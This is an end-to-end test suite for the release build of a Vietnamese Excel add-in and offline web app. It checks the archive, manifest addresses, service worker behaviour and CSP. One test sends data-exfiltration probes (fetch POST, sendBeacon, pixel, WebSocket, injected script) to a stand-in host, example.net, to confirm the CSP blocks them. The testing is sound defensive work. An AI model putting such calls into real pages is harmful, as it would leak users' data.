/**
 * The release `npm run test:e2e` builds once, for https://example.org/chitieu/ (package.json):
 * the archive and every address in it, then the hosted site in Debian's Chromium, served from the
 * unpacked archive under /chitieu/ as a static host would: the root page installable, loaded once
 * and then used offline on a sample with the network gone, its CSP stopping any other address,
 * and no service worker in Excel's task pane.
 */
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { createHash } from 'crypto';
import { spawnSync } from 'child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'fs';
import { tmpdir } from 'os';
import { dirname, join, resolve } from 'path';
import type { BrowserContext, Page, Request } from 'playwright-core';
import { buildWritePlan } from '../../src/core';
import { openGridsFile } from '../../src/hosts/xlsx/open';
import { QUIET_MS } from '../../src/taskpane/services/offline';
import { analyzeWorkbook } from '../helpers/engine';
import { launchChromiumProfile, ONLY_THIS_MACHINE } from './chromium';
import { serveDirectory, type StaticServer } from './static-server';

const ROOT = resolve(__dirname, '../..');
const RELEASE_URL = 'https://example.org/chitieu/';
const VERSION = (JSON.parse(readFileSync(join(ROOT, 'package.json'), 'utf8')) as { version: string }).version;
const FOLDER = `chitieu-${VERSION}`;
const OUT = join(ROOT, 'test-output/release');
const ZIP = join(OUT, `${FOLDER}.zip`);
const UNPACKED = join(OUT, 'unpacked');
const SITE = join(UNPACKED, FOLDER);
const DIST = join(ROOT, 'dist-web');
const SAMPLE = resolve(ROOT, '../shared/samples/dong-tien-2023.xlsx');
const OFFICE_JS = 'https://appsforoffice.microsoft.com/lib/1/hosted/office.js';
/** What Excel on the web adds to the task pane's address. */
const EXCEL_PANE = 'taskpane.html?_host_Info=Excel$Web$16.01$vi-VN$$$$0';

let zipBytes: Buffer;
let entries: string[];

beforeAll(async () => {
  if (!existsSync(ZIP)) throw new Error(`${ZIP} is missing: npm run test:e2e builds it`);
  zipBytes = readFileSync(ZIP);
  const zip = await JSZip.loadAsync(zipBytes);
  entries = Object.keys(zip.files).sort();
  rmSync(UNPACKED, { recursive: true, force: true });
  for (const entry of Object.values(zip.files)) {
    if (entry.dir) continue;
    const target = join(UNPACKED, entry.name);
    mkdirSync(dirname(target), { recursive: true });
    writeFileSync(target, await entry.async('nodebuffer'));
  }
});

function siteFiles(dir = SITE, prefix = ''): string[] {
  return readdirSync(dir, { withFileTypes: true })
    .flatMap((e) => (e.isDirectory() ? siteFiles(join(dir, e.name), `${prefix}${e.name}/`) : [`${prefix}${e.name}`]))
    .sort();
}

function siteText(file: string): string {
  return readFileSync(join(SITE, file), 'utf8');
}

/** The part of `url` under the release address, or null when it points elsewhere. */
function inSite(url: URL): string | null {
  return url.href.startsWith(RELEASE_URL) ? decodeURI(url.pathname.slice(new URL(RELEASE_URL).pathname.length)) : null;
}

/** What sw.js keeps for offline use (the build writes the list into it; terser leaves it readable). */
function precached(): string[] {
  const list = /files:\[([^\]]*)\]/.exec(siteText('sw.js'));
  if (!list) throw new Error('sw.js has no list of files');
  return [...list[1].matchAll(/"([^"]*)"/g)].map((m) => m[1]);
}

describe(`the release archive for ${RELEASE_URL}`, () => {
  test('holds one folder with the static site and manifest.xml, no source maps, and its SHA-256 beside it', () => {
    expect(entries.every((e) => e.startsWith(`${FOLDER}/`))).toBe(true);
    const files = siteFiles();
    for (const needed of [
      'index.html',
      'taskpane.html',
      'commands.html',
      'manifest.xml',
      'webapp.json',
      'sw.js',
      'assets/icon-32.png',
      'assets/icon-512.png',
    ]) {
      expect(files).toContain(needed);
    }
    expect(files.filter((f) => f.endsWith('.map'))).toEqual([]);
    const sha = createHash('sha256').update(zipBytes).digest('hex');
    expect(readFileSync(`${ZIP}.sha256`, 'utf8')).toBe(`${sha}  ${FOLDER}.zip\n`);
    expect(zipBytes.length).toBeLessThan(1024 * 1024);
    // The other e2e suites test dist-web/: it is what the archive holds, byte for byte.
    const digest = (dir: string, f: string) =>
      createHash('sha256')
        .update(readFileSync(join(dir, f)))
        .digest('hex');
    expect(siteFiles(DIST).map((f) => [f, digest(DIST, f)])).toEqual(files.map((f) => [f, digest(SITE, f)]));
  });

  test('manifest.xml passes the schema, and every address in it is a file of the site under the release address', () => {
    const validate = (JSON.parse(readFileSync(join(ROOT, 'package.json'), 'utf8')) as { scripts: { validate: string } })
      .scripts.validate;
    const [command, ...args] = validate.split(/\s+/);
    args[args.lastIndexOf('manifest.xml')] = join(SITE, 'manifest.xml');
    const r = spawnSync(command, args, { cwd: ROOT, encoding: 'utf8' });
    expect({ status: r.status, output: `${r.stdout}${r.stderr}` }).toEqual({
      status: 0,
      output: `${join(SITE, 'manifest.xml')} validates\n`,
    });

    const xml = siteText('manifest.xml');
    expect(xml).not.toMatch(/localhost/);
    const addresses = [...xml.matchAll(/([\w:.-]+)="([a-z]+:\/\/[^"]*)"/g)].filter(
      ([, name]) => !name.startsWith('xmlns'),
    );
    // SourceLocation, the icons, the command and task pane pages, SupportUrl.
    expect(addresses.length).toBeGreaterThanOrEqual(8);
    const files = siteFiles();
    for (const [, name, value] of addresses) {
      const path = inSite(new URL(value));
      expect({ name, value, path, exists: path !== null && files.includes(path) }).toEqual({
        name,
        value,
        path: expect.any(String),
        exists: true,
      });
    }
    expect(xml).toContain(`<SourceLocation DefaultValue="${RELEASE_URL}taskpane.html"/>`);
  });

  test('every address in the pages, the web app manifest and the service worker stays in the site (office.js aside)', () => {
    const files = siteFiles();
    const pages = files.filter((f) => f.endsWith('.html'));
    expect(pages).toEqual(['commands.html', 'index.html', 'taskpane.html']);
    for (const page of pages) {
      const html = siteText(page);
      const base = new URL(page, RELEASE_URL);
      // The build minifies: attribute values may be bare.
      const values = [...html.matchAll(/\s(?:src|href)=(?:"([^"]*)"|'([^']*)'|([^\s>]+))/g)].map(
        (m) => m[1] ?? m[2] ?? m[3],
      );
      expect(values.length).toBeGreaterThan(0);
      for (const value of values) {
        const url = new URL(value, base);
        const path = inSite(url);
        const allowed = path !== null ? files.includes(path) : url.href === OFFICE_JS && page !== 'index.html';
        expect({ page, value, resolved: url.href, allowed }).toEqual({
          page,
          value,
          resolved: url.href,
          allowed: true,
        });
      }
      expect(html).not.toMatch(/localhost|http:\/\//);
    }

    const webManifest = JSON.parse(siteText('webapp.json')) as Record<string, unknown> & {
      icons: { src: string; sizes: string }[];
    };
    const manifestUrl = new URL('webapp.json', RELEASE_URL);
    for (const key of ['id', 'start_url', 'scope']) {
      expect(new URL(String(webManifest[key]), manifestUrl).href).toBe(RELEASE_URL);
    }
    expect(webManifest.icons.map((i) => i.sizes)).toEqual(['192x192', '512x512']);
    for (const icon of webManifest.icons) expect(files).toContain(inSite(new URL(icon.src, manifestUrl)));

    // The service worker keeps every script and page the preview may load, and only files of the site.
    const kept = precached();
    for (const file of kept) expect(files).toContain(file);
    const previewFiles = files.filter((f) => /\.(js|html)$/.test(f) && !/^(commands\.|sw\.js)/.test(f));
    expect(previewFiles.filter((f) => !kept.includes(f))).toEqual([]);
    expect(kept).toContain('webapp.json');
  });

  test('every page carries the CSP first in <head>: scripts and connections only to the site (and office.js)', () => {
    for (const page of ['index.html', 'taskpane.html', 'commands.html']) {
      const html = siteText(page);
      const head = /<head>(.*?)<\/head>/s.exec(html)?.[1] ?? '';
      const first = /<meta[^>]*>\s*(<[^>]*>)/.exec(head)?.[1] ?? '';
      expect({ page, first: /http-equiv="?Content-Security-Policy/.test(first) }).toEqual({ page, first: true });
      const policy = /content="([^"]*)"/.exec(first)?.[1] ?? '';
      const directives = new Map(
        policy.split(';').map((d) => {
          const [name, ...sources] = d.trim().split(/\s+/);
          return [name, sources] as const;
        }),
      );
      expect(directives.get('default-src')).toEqual(["'self'"]);
      expect(directives.get('object-src')).toEqual(["'none'"]);
      for (const name of ['script-src', 'connect-src']) {
        expect({ page, name, sources: directives.get(name) }).toEqual({
          page,
          name,
          sources: ["'self'", 'https://appsforoffice.microsoft.com'],
        });
      }
      // Other directives (frame-src for office.js's own frames, say) are Office's business.
      expect(policy).not.toMatch(/unsafe-eval/);
    }
  });
});

describe('the hosted site in Chromium', () => {
  let server: StaticServer;
  let profile: string;
  let context: BrowserContext;
  let page: Page;
  const requests: { url: string; method: string; body: string | null; failure?: string }[] = [];
  const problems: string[] = [];

  beforeAll(async () => {
    server = await serveDirectory(SITE, {}, { base: '/chitieu/' });
    profile = mkdtempSync(join(tmpdir(), 'chitieu-profile-'));
    context = await launchChromiumProfile(profile, {
      args: [ONLY_THIS_MACHINE],
      locale: 'vi-VN',
      acceptDownloads: true,
      viewport: { width: 420, height: 900 },
    });
    // Every request any page makes, answered by the network or by the service worker.
    const seen = new Map<Request, (typeof requests)[number]>();
    context.on('request', (r) => {
      const entry = { url: r.url(), method: r.method(), body: r.postData() };
      seen.set(r, entry);
      requests.push(entry);
    });
    context.on('requestfailed', (r) => {
      const entry = seen.get(r);
      if (entry) entry.failure = r.failure()?.errorText;
    });
    // Reported by the page itself: a CSP violation is not always an error.
    await context.addInitScript(() => {
      document.addEventListener('securitypolicyviolation', (e) =>
        console.error(`CSP violation: ${e.violatedDirective} ${e.blockedURI}`),
      );
    });
    page = context.pages()[0] ?? (await context.newPage());
    watch(page);
  });

  afterAll(async () => {
    await context?.close();
    await server?.close();
    if (profile) rmSync(profile, { recursive: true, force: true });
  });

  function watch(p: Page): void {
    p.on('pageerror', (error) => problems.push(`page error: ${error.message}`));
    p.on('console', (m) => {
      if (m.type() === 'error') problems.push(`console: ${m.text()} (${m.location().url})`);
    });
  }

  /**
   * Errors other than the expected ones: office.js cannot load in a browser that reaches nothing
   * but this machine; Chromium asks the origin's /favicon.ico for taskpane.html, which names no
   * icon (outside the site's folder, so no file of the release); the CSP probes below.
   */
  const unexpected = () =>
    problems.filter((p) => !/appsforoffice\.microsoft\.com|\/favicon\.ico\)$|example\.net/.test(p));

  const registrations = (p: Page) => p.evaluate(async () => (await navigator.serviceWorker.getRegistrations()).length);
  const controlled = (p: Page) => p.evaluate(() => navigator.serviceWorker.controller !== null);

  test('Excel task pane in a fresh profile (as Excel has): the service worker is never registered', async () => {
    const pane = await context.newPage();
    watch(pane);
    await pane.goto(server.url + EXCEL_PANE);
    await pane.getByRole('button', { name: 'Mở tệp .xlsx' }).waitFor();
    // The preview registers within this time, once quiet for QUIET_MS (next test); the pane must not, ever.
    await pane.waitForTimeout(QUIET_MS + 1500);
    await expect(registrations(pane)).resolves.toBe(0);
    await expect(controlled(pane)).resolves.toBe(false);
    expect(unexpected()).toEqual([]);
    await pane.close();
  });

  test('the site root is the preview, with its own title, installable as a web app', async () => {
    await page.goto(server.url);
    await expect(page.title()).resolves.toBe('Chỉ tiêu — đối chiếu kế hoạch và thực hiện');
    await page.getByRole('button', { name: 'Mở tệp .xlsx' }).waitFor();
    // Installed: the worker is active and has taken over the page (so even its lazy chunks are kept).
    await page.evaluate(() => navigator.serviceWorker.ready);
    await page.waitForFunction(() => navigator.serviceWorker.controller !== null);
    const cdp = await context.newCDPSession(page);
    const installability = (await cdp.send('Page.getInstallabilityErrors')) as { installabilityErrors: unknown[] };
    expect(installability.installabilityErrors).toEqual([]);
    const manifest = (await cdp.send('Page.getAppManifest')) as { url: string; errors: unknown[] };
    expect(manifest).toMatchObject({ url: `${server.url}webapp.json`, errors: [] });
    await cdp.detach();
    const cached = await page.evaluate(async () => {
      const names = await caches.keys();
      const cache = await caches.open(names[0]);
      return { names, urls: (await cache.keys()).map((r) => r.url).sort() };
    });
    expect(cached.names).toHaveLength(1);
    expect(cached.urls).toEqual(precached().map((f) => server.url + f));
  });

  test('loaded once, then offline with the server gone: open a sample, scan, apply, download', async () => {
    const origin = new URL(server.url).origin;
    await server.close();
    await context.setOffline(true);
    const reachedServer = server.requests.length;
    const from = requests.length;

    await page.reload();
    await expect(page.title()).resolves.toBe('Chỉ tiêu — đối chiếu kế hoạch và thực hiện');
    await page.getByRole('button', { name: 'Mở tệp .xlsx' }).waitFor();
    await page.getByTestId('open-file').setInputFiles(SAMPLE);
    await page.getByText('Tệp đang mở: dong-tien-2023.xlsx').waitFor();
    await page.getByRole('button', { name: 'Quét', exact: true }).click();
    await page.getByRole('tab', { name: 'Rà soát', selected: true }).waitFor();
    await page.getByRole('button', { name: 'Ghi kết quả vào sổ tính' }).click();
    await page.getByRole('tab', { name: 'Kết quả', selected: true }).waitFor();

    const analysis = analyzeWorkbook(await openGridsFile(SAMPLE));
    const rows = analysis.sheets.flatMap((s) => s.tables.flatMap((t) => t.rows));
    const met = rows.filter((r) => r.status === 'met').length;
    const short = rows.filter((r) => r.status === 'shortfall').length;
    await page.getByRole('heading', { name: new RegExp(`^Đạt ${met}/${met + short} chỉ tiêu`) }).waitFor();

    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'Tải xuống' }).click(),
    ]);
    expect(download.suggestedFilename()).toBe('dong-tien-2023.chitieu.xlsx');
    const saved = join(OUT, 'offline', download.suggestedFilename());
    mkdirSync(dirname(saved), { recursive: true });
    await download.saveAs(saved);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(saved);
    for (const table of buildWritePlan(analysis).tables) {
      const sheet = workbook.getWorksheet(table.sheet);
      for (const column of table.columns) {
        for (const cell of column.cells.filter((c) => c.formula)) {
          expect({
            sheet: table.sheet,
            formula: Boolean(sheet?.getCell(cell.row + 1, column.col + 1).formula),
          }).toEqual({
            sheet: table.sheet,
            formula: true,
          });
        }
      }
    }

    // Nothing reached the network: the server is closed and saw no request, and every request the
    // page made was answered by the service worker.
    expect(server.requests.length).toBe(reachedServer);
    const offline = requests.slice(from);
    expect(offline.length).toBeGreaterThan(5);
    expect(offline.filter((r) => !r.url.startsWith(origin))).toEqual([]);
    expect(unexpected()).toEqual([]);
  });

  test('its CSP stops every way of sending data elsewhere, and nothing was ever sent but to the site', async () => {
    const probes = {
      'https://example.net/collect': 'connect-src',
      'https://example.net/beacon': 'connect-src',
      'https://example.net/pixel.png?so=lieu': 'img-src',
      'wss://example.net/socket': 'connect-src',
      'https://example.net/x.js': 'script-src-elem',
    };
    const violations = await page.evaluate(async () => {
      const seen: Record<string, string> = {};
      document.addEventListener('securitypolicyviolation', (e) => {
        seen[e.blockedURI] = e.violatedDirective;
      });
      await fetch('https://example.net/collect', { method: 'POST', body: 'so lieu' }).catch(() => undefined);
      navigator.sendBeacon('https://example.net/beacon', 'so lieu');
      const image = new Image();
      image.src = 'https://example.net/pixel.png?so=lieu';
      new WebSocket('wss://example.net/socket');
      const script = document.createElement('script');
      script.src = 'https://example.net/x.js';
      document.head.appendChild(script);
      for (let i = 0; i < 50 && Object.keys(seen).length < 5; i++) await new Promise((r) => setTimeout(r, 100));
      return seen;
    });
    expect(violations).toEqual(probes);
    // Chromium stopped each before it left (the ones it reports failed as blocked by the CSP).
    // Apart from them and from office.js, which only the Excel pane asks for, every request of the
    // whole session went to the site, and none carried data (a GET without a body).
    const origin = new URL(server.url).origin;
    const elsewhere = requests.filter((r) => !r.url.startsWith(origin));
    expect(elsewhere.filter((r) => r.url in probes && r.failure !== 'csp')).toEqual([]);
    expect(elsewhere.filter((r) => !(r.url in probes)).map((r) => r.url)).toEqual([OFFICE_JS]);
    expect(requests.filter((r) => r.method !== 'GET' || r.body !== null).map((r) => r.url)).toEqual([]);
    expect(unexpected()).toEqual([]);
  });

  test('Excel task pane where the preview left its worker: loaded from the site, and the worker removed', async () => {
    await context.setOffline(false);
    server = await serveDirectory(SITE, {}, { base: '/chitieu/', port: Number(new URL(server.url).port) });
    // The preview is closed: a preview page still open registers its worker again once it is idle, and
    // a registration made again before the removed one is dropped revives it (the service-worker spec).
    for (const p of context.pages()) await p.close();
    const pane = await context.newPage();
    watch(pane);
    await pane.goto(server.url + EXCEL_PANE);
    await pane.getByRole('button', { name: 'Mở tệp .xlsx' }).waitFor();
    // The worker let the pane's own page come from the site (a new version reaches Excel at once)…
    expect(server.requests).toContain(`/chitieu/${EXCEL_PANE}`);
    // …and the pane removed the worker, so the next time Excel opens it nothing is in between.
    await pane.waitForFunction(async () => (await navigator.serviceWorker.getRegistrations()).length === 0);
    // The browser drops an unregistered worker once the pages it served are closed (DevTools sees
    // its version become redundant); from then on Excel's pane opens with nothing in between.
    const again = await context.newPage();
    watch(again);
    const devtools = await context.newCDPSession(again);
    const versions = new Map<string, string>();
    devtools.on(
      'ServiceWorker.workerVersionUpdated',
      (event: { versions: { versionId: string; status: string }[] }) => {
        for (const v of event.versions) versions.set(v.versionId, v.status);
      },
    );
    await devtools.send('ServiceWorker.enable');
    await again.waitForTimeout(100);
    expect([...versions.values()]).toContain('activated');
    for (const p of context.pages()) if (p !== again) await p.close();
    for (let waited = 0; [...versions.values()].some((status) => status !== 'redundant'); waited += 100) {
      if (waited > 10000) throw new Error(`the worker outlived its pages: ${JSON.stringify([...versions])}`);
      await again.waitForTimeout(100);
    }
    await devtools.detach();
    await again.goto(server.url + EXCEL_PANE);
    await again.getByRole('button', { name: 'Mở tệp .xlsx' }).waitFor();
    await expect(controlled(again)).resolves.toBe(false);
    await expect(registrations(again)).resolves.toBe(0);
    expect(unexpected()).toEqual([]);
  });
});
